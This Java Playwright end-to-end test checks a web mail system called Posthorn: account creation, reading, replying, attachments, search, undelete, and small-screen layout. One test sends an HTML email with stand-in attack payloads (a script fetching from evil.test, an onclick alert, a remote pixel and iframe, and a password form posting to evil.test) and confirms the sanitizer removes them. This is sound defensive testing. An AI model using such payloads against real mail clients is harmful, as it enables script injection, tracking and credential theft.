package org.posthorn.allinone;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;
import static org.posthorn.testing.Eventually.eventually;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.FilePayload;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.posthorn.testing.Dialogue;
import org.posthorn.testing.browser.Browser;

/// What people do with Posthorn in a browser, from the first login of the administrator on, in one started
/// installation. No page may complain on its console or ask another host.
@Timeout(300)
class WebJourneyTest {
    private static final String PASSWORD = "a long enough password";
    private static final String ADMIN = "admin@localhost";
    private static final Pattern FIRST_PASSWORD = Pattern.compile("password: (\\S+)");

    @TempDir
    Path directory;

    @SuppressWarnings("NullAway.Init")
    private Browser browser;

    @SuppressWarnings("NullAway.Init")
    private RunningPosthorn posthorn;

    @Test
    void mailIsReceivedReadAnsweredSentFoundAndDeleted() throws Exception {
        assumeTrue(Browser.isInstalled(), "Chromium is not installed at " + Browser.CHROMIUM);
        PlaywrightAssertions.setDefaultAssertionTimeout(60_000);
        try (var sink = new Sink();
                var running = RunningPosthorn.start(
                        directory.resolve("data"), "--delivery.routes=sink1.test=127.0.0.1:" + sink.port());
                var chromium = new Browser("http://" + running.argument("gateway.listen"), this::password)) {
            posthorn = running;
            browser = chromium;
            theAdministratorMakesAccounts();
            var alice = browser.logIn(1280, ColorScheme.LIGHT, "alice");
            assertThat(alice.locator("html[data-live=on]")).hasCount(1);
            hostileMailComesAndIsRead(alice);
            itIsAnsweredAndLeavesOverSmtp(alice, sink);
            mailToABareNameReachesItsNeighbour(alice);
            theStateStandsOnTheSentMessage(alice);
            searchFindsIt(alice);
            whatWasDeletedComesBack(alice);
            smallAndDark();
            theConsoleFitsIntoASmallWindow();
            browser.assertQuiet();
        }
    }

    private String password(String name) {
        if (!name.equals(ADMIN)) {
            return PASSWORD;
        }
        var shown = FIRST_PASSWORD.matcher(posthorn.output());
        assertTrue(shown.find(), posthorn.output());
        return shown.group(1);
    }

    private void theAdministratorMakesAccounts() {
        var page = browser.logIn(1280, ColorScheme.LIGHT, ADMIN);
        for (var name : List.of("alice", "bob")) {
            page.navigate(address("/admin/users"));
            page.getByLabel("Name or address").fill(name);
            page.getByLabel("Password (empty: one is made)").fill(PASSWORD);
            page.getByText("Add account").click();
            assertThat(page.locator("table")).containsText(name + "@localhost");
        }
        page.context().close();
    }

    /// The list shows it without a reload; its scripts do not run and its pictures are not fetched.
    private void hostileMailComesAndIsRead(Page alice) {
        try (var client = Dialogue.with(Integer.parseInt(posthorn.argument("smtp.port")))) {
            client.follows("""
                S: 220 {...}
                C: EHLO client.example
                S: ...
                S: 250 {...}
                C: MAIL FROM:<someone@sink1.test>
                S: 250 {...}
                C: RCPT TO:<alice@localhost>
                S: 250 {...}
                C: DATA
                S: 354 {...}
                C: From: Some One <someone@sink1.test>
                C: To: alice@localhost
                C: Subject: A walk on Sunday
                C: Message-ID: <walk@sink1.test>
                C: Content-Type: text/html; charset=utf-8
                C:
                C: <script>document.title = 'taken over'; fetch('http://evil.test/')</script>
                C: <p onclick="alert(1)">Shall we take the river path?</p>
                C: <img src="http://evil.test/pixel.gif"><iframe src="http://evil.test/"></iframe>
                C: <form action="http://evil.test/"><input name="password"></form>
                C: .
                S: 250 {...}
                C: QUIT
                S: 221 {...}
                """);
        }
        var row = row(alice, "A walk on Sunday");
        assertThat(row).isVisible();
        row.locator(".row-link").click();
        assertThat(alice.frameLocator("iframe.sheet").getByText("Shall we take the river path?"))
                .isVisible();
        assertThat(alice.getByText("1 remote picture is not loaded")).isVisible();
        assertThat(alice.frameLocator("iframe.sheet").locator("script, form, input, iframe"))
                .hasCount(0);
        assertThat(alice).hasTitle("A walk on Sunday · Posthorn");
    }

    private void itIsAnsweredAndLeavesOverSmtp(Page alice, Sink sink) {
        alice.keyboard().press("r");
        assertThat(alice.locator("#to")).hasValue("Some One <someone@sink1.test>");
        write(alice, "The river path it is.");
        alice.locator("#text").press("Control+Enter");
        assertThat(alice.locator("#toast")).containsText("Message sent.");
        eventually("it left", () -> !sink.messages().isEmpty());
        var sent = sink.messages().getFirst();
        assertTrue(sent.contains("Subject: Re: A walk on Sunday\n"), sent);
        assertTrue(sent.contains("In-Reply-To: <walk@sink1.test>\n"), sent);
        assertTrue(sent.contains("The river path it is."), sent);
    }

    private void mailToABareNameReachesItsNeighbour(Page alice) throws Exception {
        var bob = browser.logIn(1280, ColorScheme.LIGHT, "bob");
        assertThat(bob.locator("html[data-live=on]")).hasCount(1);
        alice.navigate(address("/compose"));
        alice.locator("#to").fill("bob");
        alice.locator("#subject-field").fill("The map");
        write(alice, "It is attached.");
        alice.locator("#file")
                .setInputFiles(
                        new FilePayload("map.txt", "text/plain", "left, then right".getBytes(StandardCharsets.UTF_8)));
        assertThat(alice.locator(".attached")).containsText("map.txt");
        alice.locator("#send").click();
        assertThat(alice.locator("#toast")).containsText("Message sent.");

        assertThat(row(bob, "The map")).isVisible();
        row(bob, "The map").locator(".row-link").click();
        assertThat(bob.locator(".plain")).containsText("It is attached.");
        var file = bob.waitForDownload(() -> bob.locator(".file").click());
        assertEquals("left, then right", Files.readString(file.path()));
        bob.context().close();
    }

    private void theStateStandsOnTheSentMessage(Page alice) {
        alice.navigate(address("/mail/sent"));
        row(alice, "Re: A walk on Sunday").locator(".row-link").click();
        assertThat(alice.locator(".delivery summary")).containsText("delivered");
    }

    private void searchFindsIt(Page alice) {
        alice.navigate(address("/mail/inbox"));
        alice.keyboard().press("/");
        alice.keyboard().type("river from:sink1");
        alice.keyboard().press("Enter");
        assertThat(row(alice, "A walk on Sunday")).containsText("Inbox");
    }

    private void whatWasDeletedComesBack(Page alice) {
        alice.navigate(address("/mail/inbox"));
        alice.keyboard().press("j");
        alice.keyboard().press("#");
        assertThat(alice.locator("#toast")).containsText("Moved to Trash: 1 message.");
        assertThat(row(alice, "A walk on Sunday")).hasCount(0);
        alice.keyboard().press("z");
        assertThat(row(alice, "A walk on Sunday")).isVisible();
    }

    private void smallAndDark() {
        var page = browser.logIn(320, ColorScheme.DARK, "alice");
        for (var path : List.of("/mail/inbox", "/mail/sent", "/mail/search?q=walk", "/compose?to=bob", "/credits")) {
            page.navigate(address(path));
            assertEquals(List.of(), browser.accessibilityFaults(page), path);
            assertEquals(320, page.evaluate("document.documentElement.scrollWidth"), path);
        }
        page.context().close();
    }

    /// Without sideways scrolling: what is a row of a table elsewhere is a card here.
    private void theConsoleFitsIntoASmallWindow() {
        var page = browser.logIn(320, ColorScheme.DARK, ADMIN);
        for (var path : List.of("users", "domains/localhost", "blocklist", "limits", "credits", "queue", "trace")) {
            page.navigate(address("/admin/" + path));
            var wide = page.evaluate("[...document.querySelectorAll('html, .table-wrap')]"
                    + ".filter(box => box.scrollWidth > box.clientWidth).length");
            assertEquals(0, wide, path);
        }
        assertEquals(List.of(), browser.accessibilityFaults(page));
        page.locator("#nav-toggle").click();
        page.getByRole(
                        AriaRole.LINK,
                        new Page.GetByRoleOptions().setName("Blocklist").setExact(true))
                .click();
        assertThat(page).hasTitle("Blocklist · Posthorn");
        page.keyboard().press("/");
        assertThat(page.locator("#q")).isFocused();
        page.context().close();
    }

    private static void write(Page page, String text) {
        page.locator("#text").fill(text);
    }

    private static Locator row(Page page, String subject) {
        return page.locator(".row", new Page.LocatorOptions().setHasText(subject));
    }

    private String address(String path) {
        return "http://" + posthorn.argument("gateway.listen") + path;
    }
}
